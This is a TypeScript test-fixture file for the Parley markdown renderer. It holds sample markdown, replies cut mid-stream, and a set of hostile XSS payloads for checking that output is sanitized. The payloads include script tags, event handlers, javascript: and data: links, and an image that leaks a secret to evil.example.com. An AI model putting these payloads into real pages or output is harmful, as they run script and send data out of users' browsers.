/** Markdown a model might send, for tests and stories. */
export const richMarkdown = `# Release notes

Parley now renders **bold**, _italic_, ~~struck~~ and \`inline code\`.

- [x] Streaming-safe markdown
- [ ] Something for later

| Feature | Status |
| --- | --- |
| Tables | done |
| Links | [docs](https://example.com/docs) |

\`\`\`ts
export function greet(name: string): string {
  return \`Hello, \${name}!\`;
}
\`\`\`

> Quoted text, for good measure.
`;

/** A reply cut at awkward places, as it looks mid-stream. */
export const unfinishedMarkdown = {
  bold: 'The answer is **forty',
  codeFence: 'Here is the code:\n\n```python\ndef answer():\n    return 4',
  tableHead: 'Compare:\n\n| Model | Speed |\n| --- | -',
  link: 'Read [the guide](https://example.com/gu',
};

/** Output a hostile model (or a prompt injection) could produce. None of it may become live DOM. */
export const hostileMarkdown = `<script>window.__pwned = 'script'</script>

<img src="x" onerror="window.__pwned = 'onerror'">

<iframe src="https://evil.example.com"></iframe>

<svg onload="window.__pwned = 'svg'"><circle r="5" /></svg>

<a href="javascript:window.__pwned='html-link'">html link</a>

[click me](javascript:window.__pwned='md-link')

[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![tracker](https://evil.example.com/leak?secret=hunter2)

![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)

<div onclick="window.__pwned = 'onclick'">click</div>

<style>body { display: none }</style>

[vb](vbscript:msgbox(1)) and <https://example.com/auto> and **<b onmouseover="x()">bold</b>**
`;
